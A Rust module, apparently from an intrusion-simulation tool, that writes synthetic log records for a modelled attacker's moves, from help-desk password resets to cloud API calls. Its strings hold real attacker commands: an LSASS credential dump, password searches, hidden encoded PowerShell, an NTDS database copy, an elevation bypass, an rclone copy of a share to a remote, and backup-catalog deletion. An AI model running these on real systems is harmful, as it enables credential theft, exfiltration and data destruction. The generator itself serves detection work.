//! What the intruder's moves leave in the logs.
//!
//! Each move becomes the records that the systems concerned would write, told
//! with the names of the account and machine from which it was made. Some moves
//! leave nothing, as in life: a group membership is used, a flow is crossed, a
//! hypervisor has no log that anybody collects.

use cordon_model::{Estate, NodeIx, Timestamp};
use jiff::SignedDuration;
use serde_json::json;

use super::cast::{account, alias, cloud_caller, machine};
use super::intruder::{Move, PARTS};
use super::voices::{
    Account, Line, LogonType, Machine, Statement, cloudtrail, logon, member_added, okta, pgaudit,
    process, process_access, refused_logon, replication, service_installed, sysmon,
};

/// Where the intruder's own machines are, by way of an anonymising service.
pub(crate) const OUTSIDE: &str = "203.0.113.77";

/// The address that the remote access hands out to whoever comes in by it.
const REMOTE_ACCESS: &str = "10.10.8.200";
const SHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const COMMAND: &str = r"C:\Windows\System32\cmd.exe";
const EXPLORER: &str = r"C:\Windows\explorer.exe";
const SERVICES: &str = r"C:\Windows\System32\services.exe";

/// Puts moves into log lines, remembering from where the intruder works.
#[derive(Debug)]
pub(crate) struct Traces<'a> {
    estate: &'a Estate,
    accounts: Vec<NodeIx>,
    hosts: Vec<NodeIx>,
    credentials: Vec<NodeIx>,
}

impl<'a> Traces<'a> {
    /// Starts with an intruder who is still outside.
    pub(crate) fn new(estate: &'a Estate) -> Self {
        Self { estate, accounts: Vec::new(), hosts: Vec::new(), credentials: Vec::new() }
    }

    /// Writes down what a move leaves behind.
    pub(crate) fn of(&mut self, step: Move, at: Timestamp) -> Vec<Line> {
        match step {
            Move::Enters(node) => self.enters(node, at),
            Move::Gains { from, to } => self.gains(from, to, at),
            Move::Refused { to, .. } => self.refused(to, at),
            Move::Takes { asset, part } => self.takes(asset, part, at),
            Move::Loses(node) => {
                self.accounts.retain(|&known| known != node);
                self.hosts.retain(|&known| known != node);
                self.credentials.retain(|&known| known != node);
                Vec::new()
            }
        }
    }

    /// A telephone call to the help desk, then a sign-in from a new device.
    fn enters(&mut self, node: NodeIx, at: Timestamp) -> Vec<Line> {
        match self.kind(node) {
            "key" => {
                self.credentials.push(node);
                self.uses_key(node, at)
            }
            "host" => {
                self.hosts.push(node);
                let victim = Account::system();
                vec![shell(at, &victim, &machine(self.estate, node), EXPLORER)]
            }
            _ => {
                self.accounts.push(node);
                self.taken_over_by_reset(node, at)
            }
        }
    }

    fn taken_over_by_reset(&self, node: NodeIx, at: Timestamp) -> Vec<Line> {
        let victim = account(self.estate, node);
        let desk = self.help_desk(node);
        let office = "10.30.14.21";
        vec![
            okta(at, "user.account.reset_password", &desk, Some(&victim), office, false),
            okta(after(at, 25), "user.mfa.factor.reset_all", &desk, Some(&victim), office, false),
            okta(after(at, 140), "user.session.start", &victim, None, OUTSIDE, true),
            okta(after(at, 165), "user.mfa.factor.activate", &victim, Some(&victim), OUTSIDE, true),
        ]
    }

    /// The member of the help desk who takes the call: always the same for one victim.
    fn help_desk(&self, victim: NodeIx) -> Account {
        let nodes = self.estate.nodes().iter().zip((0..).map(NodeIx));
        let desk: Vec<NodeIx> = nodes
            .filter(|(node, _)| {
                node.id.kind() == "user" && node.tags.iter().any(|t| &**t == "help-desk")
            })
            .map(|(_, index)| index)
            .collect();
        let pick = desk.get(victim.at() % desk.len().max(1)).copied().unwrap_or(victim);
        account(self.estate, pick)
    }

    fn gains(&mut self, from: NodeIx, to: NodeIx, at: Timestamp) -> Vec<Line> {
        let lines = match (self.kind(from), self.kind(to)) {
            ("app", "user") => self.taken_over_by_reset(to, at),
            ("host", "user" | "service-account") => self.steals_from_memory(from, to, at),
            (_, "service-account" | "database-role") => self.finds_password(from, at),
            ("user", "user") => self.finds_password(from, at),
            (_, "flow") => self.crosses(to, at),
            (_, "desktops") => self.opens_desktop(to, at),
            ("desktops", "host") => self.breaks_out(to, at),
            (_, "host") => self.moves_to(to, at),
            (_, "key") => self.uses_key(to, at),
            (_, "group") => self.joins(from, to, at),
            (_, "directory") => self.replicates(from, at),
            (_, "app") => self.signs_in(to, at),
            _ => Vec::new(),
        };
        match self.kind(to) {
            "user" | "service-account" => self.accounts.push(to),
            "host" => self.hosts.push(to),
            "database-role" | "key" => self.credentials.push(to),
            _ => {}
        }
        lines
    }

    /// Memory of the sign-in process read for credentials.
    fn steals_from_memory(&self, host: NodeIx, who: NodeIx, at: Timestamp) -> Vec<Line> {
        let (me, here) = (self.me(), machine(self.estate, host));
        let dump = r"C:\Windows\System32\rundll32.exe";
        let lsass = r"C:\Windows\System32\lsass.exe";
        let command =
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\ProgramData\d.dmp full";
        let stolen = account(self.estate, who);
        vec![
            process(at, &me, &here, SHELL, dump, command),
            process_access(after(at, 1), &me, &here, dump, lsass, "0x1fffff"),
            logon(after(at, 90), &stolen, &here.address, &here, LogonType::Network),
            shell(after(at, 95), &stolen, &here, COMMAND),
        ]
    }

    /// A password found in files.
    fn finds_password(&self, from: NodeIx, at: Timestamp) -> Vec<Line> {
        let me = self.me();
        let here = self.here(from);
        let search = r"C:\Windows\System32\findstr.exe";
        let command =
            r#"findstr /si "password=" \\files-1\*.xml \\files-1\*.config \\files-1\*.xlsx"#;
        vec![process(at, &me, &here, COMMAND, search, command)]
    }

    /// A tunnel through a flow where single sign-on is asked, or a plain connection.
    fn crosses(&self, flow: NodeIx, at: Timestamp) -> Vec<Line> {
        if self.hosts.is_empty() {
            return self.single_sign_on(at);
        }
        let (me, here) = (self.me(), self.last_host());
        let user = format!("{}\\{}", me.domain, me.login);
        let target = self.estate.id(flow).name().to_owned();
        let fields = [
            ("Image", SHELL),
            ("User", user.as_str()),
            ("Protocol", "tcp"),
            ("Initiated", "true"),
            ("SourceIp", here.address.as_str()),
            ("DestinationHostname", target.as_str()),
            ("DestinationPort", "445"),
        ];
        vec![sysmon(at, 3, &here, &fields)]
    }

    fn single_sign_on(&self, at: Timestamp) -> Vec<Line> {
        let Some(&node) = self.accounts.last() else { return Vec::new() };
        let me = account(self.estate, node);
        vec![okta(at, "user.authentication.sso", &me, None, OUTSIDE, true)]
    }

    fn opens_desktop(&self, pool: NodeIx, at: Timestamp) -> Vec<Line> {
        let me = self.me();
        let host = self.first_host_of(pool);
        vec![logon(at, &me, REMOTE_ACCESS, &host, LogonType::RemoteInteractive)]
    }

    /// From a session on a shared host to the host itself.
    fn breaks_out(&self, host: NodeIx, at: Timestamp) -> Vec<Line> {
        let (me, here) = (self.me(), machine(self.estate, host));
        let bypass = r"C:\Windows\System32\fodhelper.exe";
        vec![
            logon(at, &me, REMOTE_ACCESS, &here, LogonType::RemoteInteractive),
            shell(after(at, 20), &me, &here, EXPLORER),
            process(after(at, 60), &me, &here, bypass, COMMAND, r"cmd.exe /c whoami /priv"),
            process(
                after(at, 80),
                &me,
                &here,
                COMMAND,
                r"C:\Windows\System32\nltest.exe",
                "nltest /domain_trusts /all_trusts",
            ),
        ]
    }

    /// A service made on another machine runs a shell there.
    fn moves_to(&self, host: NodeIx, at: Timestamp) -> Vec<Line> {
        let (me, there) = (self.me(), machine(self.estate, host));
        let source = self.last_host().address;
        let command = r"%COMSPEC% /Q /c powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=";
        let mut lines = vec![
            logon(at, &me, &source, &there, LogonType::Network),
            service_installed(after(at, 2), &me, &there, "WinMgmtHelper", command),
            shell(after(at, 4), &me, &there, SERVICES),
        ];
        if self.is_domain_controller(host) {
            let tool = r"C:\Windows\System32\ntdsutil.exe";
            let copy = r#"ntdsutil "ac i ntds" "ifm" "create full C:\ProgramData\ifm" q q"#;
            lines.push(process(after(at, 60), &me, &there, COMMAND, tool, copy));
        }
        lines
    }

    fn uses_key(&self, key: NodeIx, at: Timestamp) -> Vec<Line> {
        let caller = cloud_caller(self.estate, key);
        let none = json!(null);
        vec![
            cloudtrail(at, &caller, "sts", "GetCallerIdentity", OUTSIDE, &none, &none),
            cloudtrail(after(at, 8), &caller, "s3", "ListBuckets", OUTSIDE, &none, &none),
            cloudtrail(after(at, 15), &caller, "iam", "ListUsers", OUTSIDE, &none, &none),
        ]
    }

    /// Whoever owns the directory adds an account to a group; a member just uses it.
    fn joins(&self, from: NodeIx, group: NodeIx, at: Timestamp) -> Vec<Line> {
        if self.kind(from) != "directory" {
            return Vec::new();
        }
        let me = self.me();
        let name = alias(self.estate, group, |a| a.contains('\\'))
            .and_then(|a| a.split_once('\\'))
            .map_or(self.estate.id(group).name(), |(_, name)| name);
        vec![member_added(at, &me, &me, name, &self.last_host())]
    }

    fn replicates(&self, controller: NodeIx, at: Timestamp) -> Vec<Line> {
        vec![replication(at, &self.me(), &machine(self.estate, controller))]
    }

    fn signs_in(&self, app: NodeIx, at: Timestamp) -> Vec<Line> {
        if self.hosts.is_empty() {
            return self.single_sign_on(at);
        }
        let (me, server) = (self.me(), self.server_of(app));
        vec![logon(at, &me, &self.last_host().address, &server, LogonType::Network)]
    }

    fn refused(&self, to: NodeIx, at: Timestamp) -> Vec<Line> {
        match self.kind(to) {
            "host" => {
                let there = machine(self.estate, to);
                vec![refused_logon(at, &self.me(), &self.last_host().address, &there)]
            }
            "user" | "service-account" => {
                let who = account(self.estate, to);
                vec![refused_logon(at, &who, &self.last_host().address, &self.last_host())]
            }
            _ => Vec::new(),
        }
    }

    fn takes(&self, asset: NodeIx, part: u32, at: Timestamp) -> Vec<Line> {
        match self.kind(asset) {
            "db" => vec![self.reads_database(asset, part, at)],
            "bucket" => self.reads_bucket(asset, part, at),
            "backup" => self.destroys_backups(part, at),
            "share" => self.reads_share(asset, part, at),
            _ => Vec::new(),
        }
    }

    fn reads_database(&self, asset: NodeIx, part: u32, at: Timestamp) -> Line {
        let database = alias(self.estate, asset, |a| !a.contains(['@', '.', '\\']))
            .unwrap_or(self.estate.id(asset).name());
        let role = self.role_on(asset);
        let people = self.people(asset);
        let address = match self.hosts.last() {
            Some(&host) => machine(self.estate, host).address,
            None => REMOTE_ACCESS.to_owned(),
        };
        let statement = if part == 1 {
            Statement {
                role: &role,
                address: &address,
                program: "psql",
                class: "READ",
                command: "SELECT",
                table: "public.person",
                text: "select * from person limit 50",
                rows: 50,
            }
        } else {
            Statement {
                role: &role,
                address: &address,
                program: "psql",
                class: "READ",
                command: "COPY",
                table: "public.person",
                text: "copy (select * from person) to stdout with csv",
                rows: people / u64::from(PARTS - 1),
            }
        };
        pgaudit(at, database, &statement)
    }

    /// The credential with which the intruder uses a store: the newest of those won that lead
    /// to it, else any that does.
    fn credential_for(&self, store: NodeIx) -> Option<NodeIx> {
        let links = self.estate.links().iter().filter_map(|link| self.estate.direction(link));
        let is_credential = |node: NodeIx| matches!(self.kind(node), "database-role" | "key");
        let leading: Vec<NodeIx> = links
            .filter(|&(from, to)| to == store && is_credential(from))
            .map(|(from, _)| from)
            .collect();
        let mut won = self.credentials.iter().rev();
        won.find(|node| leading.contains(node)).or(leading.first()).copied()
    }

    fn role_on(&self, database: NodeIx) -> String {
        let role = self.credential_for(database);
        let name = role.and_then(|role| alias(self.estate, role, |_| true));
        // Where no role of its own leads there, people read under their own names.
        name.map_or_else(|| self.me().login, str::to_owned)
    }

    fn reads_bucket(&self, asset: NodeIx, part: u32, at: Timestamp) -> Vec<Line> {
        let links = self.estate.links().iter().filter_map(|link| self.estate.direction(link));
        let key = links
            .filter(|&(from, to)| to == asset && self.kind(from) == "key")
            .map(|(from, _)| from);
        let Some(caller) = key.map(|key| cloud_caller(self.estate, key)).next() else {
            return Vec::new();
        };
        let bucket = alias(self.estate, asset, |a| !a.starts_with("arn:"))
            .unwrap_or(self.estate.id(asset).name());
        let (call, object) =
            if part == 1 { ("ListObjects", None) } else { ("GetObject", Some(part)) };
        let request = json!({
            "bucketName": bucket,
            "key": object.map(|part| format!("export/members-{part:02}.csv.gz")),
        });
        vec![cloudtrail(at, &caller, "s3", call, OUTSIDE, &request, &json!(null))]
    }

    fn reads_share(&self, asset: NodeIx, part: u32, at: Timestamp) -> Vec<Line> {
        if part != 2 {
            return Vec::new();
        }
        let (me, here) = (self.me(), self.last_host());
        let share = alias(self.estate, asset, |a| a.starts_with('\\'))
            .unwrap_or(self.estate.id(asset).name());
        let tool = r"C:\ProgramData\rclone.exe";
        let command =
            format!("rclone.exe copy {share} remote:north --transfers 32 --no-check-certificate");
        vec![process(at, &me, &here, COMMAND, tool, &command)]
    }

    fn destroys_backups(&self, part: u32, at: Timestamp) -> Vec<Line> {
        if part != 1 {
            return Vec::new();
        }
        let (me, here) = (self.me(), self.last_host());
        let tool = r"C:\Windows\System32\wbadmin.exe";
        vec![process(at, &me, &here, COMMAND, tool, "wbadmin delete catalog -quiet")]
    }

    fn me(&self) -> Account {
        self.accounts.last().map_or_else(Account::system, |&node| account(self.estate, node))
    }

    fn last_host(&self) -> Machine {
        self.hosts.last().map_or_else(
            || Machine { name: "unknown".into(), address: OUTSIDE.into() },
            |&node| machine(self.estate, node),
        )
    }

    fn here(&self, from: NodeIx) -> Machine {
        if self.kind(from) == "host" { machine(self.estate, from) } else { self.last_host() }
    }

    fn first_host_of(&self, pool: NodeIx) -> Machine {
        let links = self.estate.links().iter().filter_map(|link| self.estate.direction(link));
        let host =
            links.filter(|&(from, to)| from == pool && self.kind(to) == "host").map(|(_, to)| to);
        machine(self.estate, host.min().unwrap_or(pool))
    }

    fn server_of(&self, app: NodeIx) -> Machine {
        let links = self.estate.links().iter().filter_map(|link| self.estate.direction(link));
        let host = links
            .filter(|&(from, to)| to == app && self.kind(from) == "host")
            .map(|(from, _)| from);
        machine(self.estate, host.min().unwrap_or(app))
    }

    fn is_domain_controller(&self, host: NodeIx) -> bool {
        self.estate.node(host).tags.iter().any(|tag| &**tag == "domain-controller")
    }

    fn people(&self, asset: NodeIx) -> u64 {
        let here = |holding: &&cordon_model::estate::Holding| {
            holding.node == asset || holding.copies.contains(&asset)
        };
        self.estate.holdings().iter().filter(here).filter_map(|h| h.people).max().unwrap_or(10_000)
    }

    fn kind(&self, node: NodeIx) -> &'a str {
        self.estate.id(node).kind()
    }
}

/// A hidden, encoded shell: the first thing on a machine that was just won.
fn shell(at: Timestamp, who: &Account, here: &Machine, parent: &str) -> Line {
    let command = "powershell.exe -NoP -NonI -W Hidden -Enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA";
    process(at, who, here, parent, SHELL, command)
}

fn after(at: Timestamp, seconds: i64) -> Timestamp {
    at + SignedDuration::from_secs(seconds)
}
